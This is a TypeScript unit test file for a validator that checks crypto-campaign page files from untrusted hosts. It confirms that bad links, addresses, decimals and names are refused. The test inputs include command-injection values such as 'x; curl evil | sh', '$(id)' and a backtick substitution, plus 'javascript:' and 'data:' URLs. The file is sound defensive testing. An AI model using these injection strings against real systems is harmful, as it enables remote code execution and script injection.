import { describe, it } from "node:test";
import { expect } from "chai";
import { InputError } from "../../src/errors.ts";
import type { CampaignPage } from "../../src/page/page-files.ts";
import { checkView } from "../../web/campaign/check-view.ts";

const VIEW = {
  campaign: "demo",
  phase: "beta",
  chainId: 1,
  distributor: `0x${"22".repeat(20)}`,
  deployBlock: 7,
  sponsor: { name: "S", policyUrl: "https://sponsor.example/policy", disclaimer: "" },
  tokens: [{ symbol: "T", address: `0x${"11".repeat(20)}`, decimals: 0, minPayout: "0" }],
  markets: [{ id: "kraken.abc-eur" }],
};

const faultsOf = (changes: object): readonly string[] => {
  try {
    checkView("campaign.json", { ...VIEW, ...changes } as unknown as CampaignPage);
    return [];
  } catch (error) {
    if (!(error instanceof InputError)) throw error;
    return error.faults.map(({ where }) => where.replace("campaign.json: ", ""));
  }
};

describe("a campaign's page file from a host that nobody trusts", () => {
  it("when it is as the commands write it, it should be taken", () => {
    expect(faultsOf({})).to.deep.equal([]);
    expect(faultsOf({ distributor: null, deployBlock: null })).to.deep.equal([]);
  });

  it("when its policy is a link that a browser would run, it should be refused", () => {
    for (const policyUrl of ["javascript:alert(1)", "data:text/html,x", "/policy", null])
      expect(faultsOf({ sponsor: { ...VIEW.sponsor, policyUrl } })).to.deep.equal([
        "sponsor.policyUrl",
      ]);
  });

  it("when a name could break out of a command, it should be refused", () => {
    expect(faultsOf({ campaign: "x; curl evil | sh", phase: "$(id)" })).to.deep.equal([
      "campaign",
      "phase",
    ]);
    expect(faultsOf({ markets: [{ id: "a`id`" }] })).to.deep.equal(["markets.0.id"]);
  });

  it("when an address or decimals are none, it should be refused", () => {
    const [token] = VIEW.tokens;
    expect(faultsOf({ distributor: "0x1", chainId: "1" })).to.deep.equal([
      "chainId",
      "distributor",
    ]);
    for (const decimals of [-1, 1.5, 78, "18", null])
      expect(faultsOf({ tokens: [{ ...token, decimals }] })).to.deep.equal(["tokens.0"]);
  });

  it("when lists are missing, it should say so and not fall over", () => {
    expect(faultsOf({ tokens: undefined, markets: null, sponsor: null })).to.deep.equal([
      "sponsor.policyUrl",
      "tokens",
      "markets",
    ]);
  });
});
